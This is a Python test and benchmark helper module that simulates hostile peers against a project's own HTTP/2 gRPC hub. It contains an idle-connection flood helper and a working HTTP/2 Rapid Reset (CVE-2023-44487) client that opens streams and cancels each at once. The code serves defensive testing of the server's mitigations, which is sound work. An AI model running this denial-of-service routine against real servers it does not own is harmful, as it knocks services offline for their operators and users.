"""Hostile peers at the connection and HTTP/2 level, shared by
``tests/e2e/test_hostile_peers.py`` and ``bench/hostile_peers.py``.

Everything here is bounded: a count of connections or streams, and a
timeout on every socket operation.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from wsh.v1 import hub_pb2

SOCKET_TIMEOUT_S = 5.0
INFO_METHOD = "/wsh.v1.HubService/GetServerInfo"


def split_address(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


@contextlib.contextmanager
def idle_connections(address: str, count: int) -> Iterator[list[socket.socket]]:
    """``count`` TCP connections that never send a byte; closed on exit.

    Connections the server refuses (closed at once, or a failed connect)
    are kept too, so the caller can count what the server did.
    """
    host, port = split_address(address)
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
            sock.settimeout(SOCKET_TIMEOUT_S)
            socks.append(sock)
            with contextlib.suppress(OSError):
                sock.connect((host, port))
        yield socks
    finally:
        for sock in socks:
            sock.close()


def closed_by_server(sock: socket.socket) -> bool:
    """Whether the server closed (or reset) this connection; never blocks.

    Reads and drops what the server sent meanwhile (its SETTINGS, a GOAWAY).
    """
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


@dataclass(slots=True)
class RapidResetResult:
    resets_sent: int
    goaway: bool  # the server sent GOAWAY
    closed: bool  # the server closed the connection
    seconds: float


def rapid_reset(
    address: str,
    streams: int,
    token: str | None = None,
    batch: int = 100,
    time_limit_s: float = 20.0,
    linger_s: float = 0.0,
) -> RapidResetResult:
    """Open ``streams`` GetServerInfo calls on one HTTP/2 connection and reset
    each at once (CVE-2023-44487), ``batch`` per write, reading only what is
    already there between writes. Stops early when the server closes the
    connection or sends GOAWAY; after the last stream, waits up to
    ``linger_s`` for the server to do so.
    """
    host, port = split_address(address)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", INFO_METHOD),
        (":authority", address),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if token is not None:
        headers.append(("authorization", f"Bearer {token}"))
    body = hub_pb2.GetServerInfoRequest().SerializeToString()
    frame = b"\x00" + len(body).to_bytes(4, "big") + body
    sent = 0
    goaway = closed = False
    start = time.monotonic()
    with socket.create_connection((host, port), timeout=SOCKET_TIMEOUT_S) as sock:
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        while sent < streams and time.monotonic() - start < time_limit_s:
            try:
                for _ in range(min(batch, streams - sent)):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    conn.send_data(stream_id, frame)
                    conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                sock.sendall(conn.data_to_send())
            except (h2.exceptions.ProtocolError, OSError):
                closed = True
                break
            sock.setblocking(False)
            try:
                while data := sock.recv(65536):
                    for event in conn.receive_data(data):
                        goaway = goaway or isinstance(event, h2.events.ConnectionTerminated)
                else:
                    closed = True
            except BlockingIOError:
                pass
            except (h2.exceptions.ProtocolError, OSError):
                closed = True
            finally:
                sock.settimeout(SOCKET_TIMEOUT_S)
            if goaway or closed:
                break
        linger_until = time.monotonic() + linger_s
        while not (goaway or closed) and time.monotonic() < linger_until:
            sock.settimeout(max(0.01, linger_until - time.monotonic()))
            try:
                data = sock.recv(65536)
            except TimeoutError:
                break
            except (h2.exceptions.ProtocolError, OSError):
                closed = True
                break
            if not data:
                closed = True
                break
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                closed = True
                break
            goaway = any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
    return RapidResetResult(sent, goaway, closed, time.monotonic() - start)
